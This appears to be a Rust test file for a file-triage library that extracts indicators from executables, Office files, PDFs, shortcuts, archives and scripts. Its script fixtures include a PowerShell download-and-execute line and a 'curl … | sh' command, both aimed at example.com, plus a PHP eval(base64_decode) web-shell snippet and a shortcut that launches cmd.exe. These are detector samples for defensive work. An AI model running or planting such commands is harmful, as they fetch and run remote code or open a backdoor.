//! Facts: what is said beyond the sentence, and that nothing is said of what is not at hand.
#![allow(clippy::unwrap_used, clippy::indexing_slicing, reason = "a test without its sample has failed")]

mod common;

use std::time::{Duration, Instant};

use common::{Program, compound, elf, put, zip};
use proptest::prelude::*;
use streamdb_sniff::{FACT_BYTES, FACTS_LOOK, FACTS_MOST, facts};

/// The facts as lines.
fn told(content: &[u8]) -> Vec<String> {
    facts(content).iter().map(|fact| format!("{}: {}", fact.name, fact.value)).collect()
}

#[track_caller]
fn tells(content: &[u8], expected: &[&str]) {
    assert_eq!(told(content), expected);
}

/// The values of one fact.
fn values(content: &[u8], name: &str) -> Vec<String> {
    facts(content).into_iter().filter(|fact| fact.name == name).map(|fact| fact.value).collect()
}

/// A program that imports by name and by number.
fn importing() -> Program {
    let mut program = Program::new();
    program.imports(&[
        ("KERNEL32.dll", &["LoadLibraryA", "GetProcAddress", "not a name"], &[]),
        ("WS2_32.dll", &["WSAStartup"], &[10, 115, 999]),
        ("OLEAUT32.dll", &[], &[2]),
        ("MSCOMCTL.OCX", &[], &[7]),
    ]);
    program
}

#[test]
fn windows_programs() {
    let mut program = importing();
    program.version(&[("CompanyName", "Größe AG"), ("FileVersion", "1.2.3.4"), ("Else", "x"), ("ProductName", "")]);
    program.symbols("c:\\a\\b.pdb");
    tells(
        &program.build(),
        &[
            "machine: Intel 80386",
            "subsystem: GUI",
            "type: exe",
            "sections: 1",
            "compiled: 2012-01-02T03:04:05Z",
            "signed: no",
            // pefile 2024.8.26 says so of the same file.
            "imphash: 8927d3c2f04a8a5e32c2e626d8de3412",
            "pdb: c:\\a\\b.pdb",
            "CompanyName: Größe AG",
            "FileVersion: 1.2.3.4",
            "section: .all",
        ],
    );
}

/// A part of a table gives no hash: it would be that of something else.
#[test]
fn imports_that_are_cut() {
    let whole = importing().build();
    let hash = values(&whole, "imphash");
    assert_eq!(hash.len(), 1);
    for end in 0..whole.len() {
        let seen = values(&whole[..end], "imphash");
        assert!(seen.is_empty() || seen == hash, "{end}: {seen:?}");
    }
}

#[test]
fn packers_and_installers() {
    let behind = |bytes: &[u8]| {
        let mut file = importing().build();
        file.extend(bytes);
        [values(&file, "installer"), values(&file, "overlay")].concat()
    };
    let end = importing().build().len().to_string();
    assert_eq!(behind(b""), [""; 0]);
    assert_eq!(behind(b"something"), [end.as_str()]);
    assert_eq!(behind(b"\0\0\0\0\xef\xbe\xad\xdeNullsoftInst"), ["NSIS", end.as_str()]);
    assert_eq!(behind(b"7z\xbc\xaf\x27\x1c\0\x04"), ["7-Zip self-extracting archive", end.as_str()]);
    assert_eq!(behind(b"Rar!\x1a\x07\0"), ["RAR self-extracting archive", end.as_str()]);
    assert_eq!(behind(b"PK\x03\x04"), ["zip self-extracting archive", end.as_str()]);
    assert_eq!(behind(b"rDlPtS\xcd\xe6\xd7\x7b\x0b\x2a"), ["Inno Setup", end.as_str()]);
}

/// A certificate table is no overlay, and what follows it is one.
#[test]
fn signatures() {
    let mut program = importing();
    let end = program.build().len();
    // Its size is as it is, and what follows begins at a multiple of eight.
    program.directory(4, end as u32, 0xfd);
    let mut file = program.build();
    assert_eq!((values(&file, "signed"), values(&file, "overlay")), (vec!["yes".to_owned()], vec![]));
    put(&mut file, end + 0xff, &[1]);
    assert_eq!(values(&file, "overlay"), [""; 0]);
    file.extend(b"more");
    assert_eq!(values(&file, "overlay"), [(end + 0x100).to_string()]);
}

#[test]
fn other_programs() {
    tells(
        &elf(2, Some(b"/lib64/ld-linux-x86-64.so.2\0"), None, true),
        &["machine: x86-64", "type: executable", "interpreter: /lib64/ld-linux-x86-64.so.2"],
    );
    // One load command: a library.
    let mut mach = b"\xcf\xfa\xed\xfe\x07\0\0\x01\x03\0\0\0\x02\0\0\0\x01\0\0\0\x28\0\0\0\0\0\0\0\0\0\0\0".to_vec();
    mach.extend(b"\x0c\0\0\0\x28\0\0\0\x18\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0libSystem.dylib\0");
    let one = ["machine: x86_64", "type: executable", "needed: libSystem.dylib", "signed: no"];
    tells(&mach, &one);
    let mut fat = b"\xca\xfe\xba\xbe\0\0\0\x02".to_vec();
    put(&mut fat, 8, b"\x01\0\0\x07\0\0\0\x03\0\0\0\x40\0\0\0\x48\0\0\0\0");
    put(&mut fat, 28, b"\x01\0\0\x0c\0\0\0\0\x7f\0\0\0\0\0\0\x48\0\0\0\0");
    put(&mut fat, 64, &mach);
    tells(&fat, &[&["architectures: 2"][..], &one, &["machine: arm64"]].concat());
    let mut dex = b"dex\n035\0\0\0\0\0".to_vec();
    put(&mut dex, 12, &[0xab; 20]);
    put(&mut dex, 32, &[0x70]);
    put(&mut dex, 96, &[2, 0, 0, 0]);
    tells(&dex, &["size: 112", "classes: 2", &format!("signature: {}", "ab".repeat(20))]);
    let class =
        b"\xca\xfe\xba\xbe\0\0\0\x34\0\x06\x05\0\0\0\0\0\0\0\x05\x01\0\x03A/B\x07\0\x03\x03\0\0\0\x01\0\x21\0\x04\0\0";
    tells(class, &["class: A/B"]);
}

#[test]
fn office_documents() {
    const RELATIONS: &[u8] = br#"<Relationships>
        <Relationship Id="1" Type="http://x/relationships/attachedTemplate" Target="https://example.com/a.dotm" TargetMode="External"/>
        <Relationship Id="2" Type="http://x/relationships/hyperlink" TargetMode='External' Target='https://example.com/'/>
        <Relationship Id="3" Type="http://x/relationships/styles" Target="styles.xml"/></Relationships>"#;
    let members: &[(u16, &str, &[u8], &[u8])] = &[
        (0, "[Content_Types].xml", b"", b"<Types/>"),
        (0, "word/_rels/settings.xml.rels", b"", RELATIONS),
        (0, "word/vbaProject.bin", b"", b"x"),
        (0, "word/embeddings/oleObject1.bin", b"", b"x"),
    ];
    let document = zip(members);
    let known = [
        "members: 4",
        "encrypted: no",
        "macros: yes",
        "embedded: word/embeddings/oleObject1.bin",
        "external: attachedTemplate https://example.com/a.dotm",
        "link: https://example.com/",
        "member: [Content_Types].xml",
        "member: word/_rels/settings.xml.rels",
        "member: word/vbaProject.bin",
        "member: word/embeddings/oleObject1.bin",
    ];
    tells(&document, &known);
    // Without the directory nothing is said of all members.
    tells(&document[..document.len() - 22], &known[2..]);
    // What stands before an archive moves it.
    tells(&[b"PK00", &document[..]].concat(), &known);
    let jar = zip(&[(0, "META-INF/MANIFEST.MF", b"", b"Manifest-Version: 1.0\r\nMain-Class: a.b.C\r\n")]);
    assert_eq!(values(&jar, "main class"), ["a.b.C"]);
    assert_eq!(values(&zip(&[(1, "a", b"", b"x")]), "encrypted"), ["yes"]);
}

#[test]
fn compound_files() {
    let mut file = compound([0; 16], &["WordDocument", "VBA", "\u{1}Ole10Native", "\u{5}SummaryInformation"]);
    // Entries are streams; the summary is large enough for sectors of its own.
    for n in 0..5 {
        put(&mut file, 1024 + n * 128 + 66, &[if n == 0 { 5 } else { 2 }]);
    }
    let summary = (file.len() - 512).div_ceil(512) as u32;
    put(&mut file, 1024 + 4 * 128 + 116, &summary.to_le_bytes());
    put(&mut file, 1024 + 4 * 128 + 120, &4096_u32.to_le_bytes());
    for n in 0..8 {
        let next = if n < 7 { summary + n + 1 } else { 0xffff_fffe };
        put(&mut file, 512 + (summary + n) as usize * 4, &next.to_le_bytes());
    }
    let at = (summary as usize + 1) * 512;
    put(&mut file, at + 4095, &[0]);
    put(&mut file, at + 44, &[48]);
    put(&mut file, at + 48 + 4, &[2]);
    put(&mut file, at + 48 + 8, &[4, 0, 0, 0, 24, 0, 0, 0, 12, 0, 0, 0, 40, 0, 0, 0]);
    put(&mut file, at + 48 + 24, b"\x1e\0\0\0\x05\0\0\0Anna\0");
    put(&mut file, at + 48 + 40, &64_u32.to_le_bytes());
    put(&mut file, at + 48 + 44, &((1_325_473_445_u64 + 11_644_473_600) * 10_000_000).to_le_bytes());
    tells(
        &file,
        &[
            "macros: yes",
            "embedded: \\u{1}Ole10Native",
            "author: Anna",
            "created: 2012-01-02T03:04:05Z",
            "stream: WordDocument",
            "stream: VBA",
            "stream: \\u{1}Ole10Native",
            "stream: \\u{5}SummaryInformation",
        ],
    );
}

#[test]
fn documents() {
    tells(
        b"{\\rtf1{\\*\\template http://example.com/t}{\\object\\objupdate{\\*\\objclass Equation.3}\
          {\\*\\objdata 0105 0000 02000000\n0b000000 4571756174696f6e2e3300 00}}}",
        &[
            "template: http://example.com/t",
            "object class: Equation.3",
            "object: Equation.3",
            "objects: 1",
            "updates objects: yes",
        ],
    );
    tells(
        b"%PDF-1.7\n1 0 obj <</OpenAction 2 0 R>>\n<</S /J#61vaScript /JS (x)>> <</S/Launch>> /EmbeddedFiles /EmbeddedFile \
          /ObjStm /URI (http://example.com/)",
        &[
            "link: http://example.com/",
            "javascript: 1",
            "launch: 1",
            "embedded files: 1",
            "open action: 1",
            "object streams: 1",
            "escaped names: yes",
        ],
    );
}

#[test]
fn shortcuts() {
    let mut link = b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46".to_vec();
    put(&mut link, 20, &(1_u32 | 2 | 0x20 | 0x80).to_le_bytes());
    put(&mut link, 76, &[2, 0, 0, 0]);
    let info = 80;
    put(
        &mut link,
        info,
        &[0x40, 0, 0, 0, 0x1c, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0x1c, 0, 0, 0, 0, 0, 0, 0, 0x3f, 0, 0, 0],
    );
    put(&mut link, info + 0x1c, b"C:\\Windows\\cmd.exe\0");
    put(&mut link, info + 0x3f, &[0]);
    link.extend([7, 0]);
    link.extend("/c calc".encode_utf16().flat_map(u16::to_le_bytes));
    let mut tracker = vec![0x60, 0, 0, 0, 3, 0, 0, 0xa0];
    put(&mut tracker, 16, b"desktop-1\0");
    put(&mut tracker, 0x5f, &[0]);
    link.extend(tracker);
    tells(&link, &["target: C:\\Windows\\cmd.exe", "arguments: /c calc", "made on: desktop-1"]);
}

#[test]
fn archives() {
    let mut cabinet = b"MSCF\0\0\0\0".to_vec();
    put(&mut cabinet, 8, &[80]);
    put(&mut cabinet, 16, &[44]);
    put(&mut cabinet, 28, &[1, 0]);
    put(&mut cabinet, 44 + 16, b"a.exe\0");
    tells(&cabinet, &["size: 80", "members: 1", "member: a.exe"]);
    let mut disk = Vec::new();
    put(&mut disk, 32768, b"\x01CD001\x01");
    put(&mut disk, 32768 + 40, b"LABEL   ");
    put(&mut disk, 32768 + 156 + 2, &[20]);
    put(&mut disk, 32768 + 156 + 11, &[8]);
    put(&mut disk, 17 * 2048, b"\0CD001\x01EL TORITO SPECIFICATION");
    put(&mut disk, 18 * 2048, b"\xffCD001\x01");
    put(&mut disk, 20 * 2048, &[34]);
    put(&mut disk, 20 * 2048 + 32, &[1, 0]);
    put(&mut disk, 20 * 2048 + 34, &[42]);
    put(&mut disk, 20 * 2048 + 34 + 32, b"\x07A.LNK;1");
    put(&mut disk, 22 * 2048, &[0]);
    tells(&disk, &["label: LABEL", "bootable: yes", "member: A.LNK"]);
}

#[test]
fn scripts() {
    let script =
        "$c = New-Object Net.WebClient\nWrite-Host 1\niex($c.DownloadString('hxxp https://example.com/a.ps1'))\n";
    let known = ["uses: iex", "uses: downloadstring", "url: https://example.com/a.ps1"];
    tells(script.as_bytes(), &known);
    let wide: Vec<u8> = [0xfeff].into_iter().chain(script.encode_utf16()).flat_map(u16::to_le_bytes).collect();
    tells(&wide, &known);
    tells(b"#!/bin/sh\ncurl http://example.com/x | sh\n", &["uses: curl", "url: http://example.com/x"]);
    tells(b"<?php eval(base64_decode($_POST['x']));", &["uses: eval", "uses: base64_decode"]);
    tells(b"just words about eval( and http://example.com/\n", &[]);
}

proptest! {
    /// Values keep their bounds, and what one program's damage makes of another is no concern.
    #[test]
    fn bounded(
        start in prop::sample::select(vec![
            &b"MZ"[..], b"\x7fELF\x02\x01", b"\xca\xfe\xba\xbe\0\0\0\x02", b"\xca\xfe\xba\xbe\0\0\0\x34", b"\xcf\xfa\xed\xfe",
            b"PK\x03\x04", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"{\\rtf1\\objdata ", b"%PDF-1.4 /", b"MSCF\0\0\0\0",
            b"\x4c\0\0\0\x01\x14\x02\0", b"dex\n035\0", b"#!/bin/sh\n",
        ]),
        rest in prop::collection::vec(any::<u8>(), 0..600),
    ) {
        check(&[start, &rest].concat())?;
    }

    #[test]
    fn damaged(changes in prop::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 0..12), end in any::<prop::sample::Index>()) {
        let mut program = importing();
        program.version(&[("CompanyName", "x")]);
        let samples = [
            program.build(),
            zip(&[(0, "word/_rels/a.rels", b"", b"<Relationship Target='x' TargetMode='External'>")]),
            compound([0; 16], &["a", "VBA", "\u{5}SummaryInformation"]),
        ];
        for mut bytes in samples {
            for (at, byte) in &changes {
                let at = at.index(bytes.len());
                bytes[at] = *byte;
            }
            check(&bytes)?;
            check(&bytes[..end.index(bytes.len())])?;
        }
    }
}

fn check(content: &[u8]) -> Result<(), TestCaseError> {
    let found = facts(content);
    prop_assert!(found.len() <= FACTS_MOST);
    for fact in &found {
        prop_assert!(!fact.value.is_empty() && fact.value.len() <= FACT_BYTES, "{:?}", fact);
        prop_assert!(!fact.value.chars().any(char::is_control), "{:?}", fact);
    }
    Ok(())
}

/// As much as is looked at, made to take long: each is done in a moment.
#[test]
fn bombs() {
    let filled = |start: &[u8], with: &[u8]| {
        let mut content = start.to_vec();
        while content.len() < FACTS_LOOK {
            content.extend(with);
        }
        content
    };
    let mut program = importing().build();
    // Imports that lead to themselves, and sections without number.
    put(&mut program, 0x80 + 6, &[96]);
    program.extend(filled(b"", &[0x10, 0x10, 0, 0]));
    let mut packed = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
    std::io::Write::write_all(&mut packed, &vec![b'<'; 32 << 20]).unwrap();
    let packed = packed.finish().unwrap();
    let member: (u16, &str, &[u8], &[u8]) = (0, "word/_rels/a.rels", b"", &packed);
    let mut relations = zip(&vec![member; 200]);
    // Deflated, whatever the samples are.
    for at in 0..relations.len() - 12 {
        match &relations[at..at + 4] {
            b"PK\x03\x04" => relations[at + 8] = 8,
            b"PK\x01\x02" => relations[at + 10] = 8,
            _ => {}
        }
    }
    let mut ring = compound([0; 16], &["a"; 64]);
    put(&mut ring, 512 + 4, &[1, 0, 0, 0]);
    let bombs = [
        ("program", program),
        ("relations", relations),
        (
            "relation tags",
            zip(&[(0, "a.rels", b"", &filled(b"", b"<Relationship  Target TargetMode Type>")[..120_000])]),
        ),
        ("ring", ring),
        ("pdf names", filled(b"%PDF-1.4", b"/J")),
        ("pdf links", filled(b"%PDF-1.4", b"/URI(")),
        ("rtf", filled(b"{\\rtf1", b"\\objdata 41")),
        ("rtf groups", filled(b"{\\rtf1", b"\\template ")),
        ("addresses", filled(b"#!/bin/sh\n", b"http://")),
        ("words", filled(b"#!/bin/sh\n", b"cw/be")),
        ("class", filled(b"\xca\xfe\xba\xbe\0\0\0\x34\xff\xff", b"\x03\0\0\0\0")),
        ("mach", filled(b"\xcf\xfa\xed\xfe\0\0\0\0\0\0\0\0\x02\0\0\0\xff\xff\xff\xff", b"\x0c\0\0\0\x08\0\0\0")),
        ("cabinet", filled(b"MSCF\0\0\0\0\0\0\0\0\0\0\0\0\x24\0\0\0\0\0\0\0\0\0\0\0\xff\xff", b"aaaa")),
    ];
    for (name, content) in bombs {
        let began = Instant::now();
        check(&content).unwrap();
        println!("{name}: {} bytes in {:?}", content.len(), began.elapsed());
        assert!(began.elapsed() < Duration::from_secs(5), "{name}");
    }
}
